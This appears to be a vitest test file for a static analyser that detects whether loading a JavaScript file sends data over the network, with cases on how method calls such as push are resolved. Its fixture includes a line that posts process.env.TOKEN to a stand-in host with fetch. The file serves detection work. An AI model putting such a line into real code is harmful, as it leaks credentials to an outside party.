import { expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';

/** Whether loading the file sends something. */
function sendsAtLoad(source: string): boolean {
  return analyzeJs(source).flow.flows.some(({ sink, live }) => sink === 'network' && live);
}

const TAKES = "export const api = { push(x) { fetch('https://a.test', { body: process.env.TOKEN + x }); } };";

test.each([
  ['a list', 'const rows = []; rows.push(1);'],
  ['a list without a name', '[].push(1);'],
  ['a collection', 'const rows = new Map(); rows.push(1);'],
])('a method of %s calls none of the file that has its name', (_, source) => {
  expect(sendsAtLoad(`${TAKES}\n${source}`)).toBe(false);
});

test.each([
  ['what is not known', 'const rows = pick(); rows.push(1);'],
  ['a class of the file', `class Map { push() { api.push(1); } }\nconst rows = new Map(); rows.push(1);`],
])('a method of %s may', (_, source) => {
  expect(sendsAtLoad(`${TAKES}\n${source}`)).toBe(true);
});
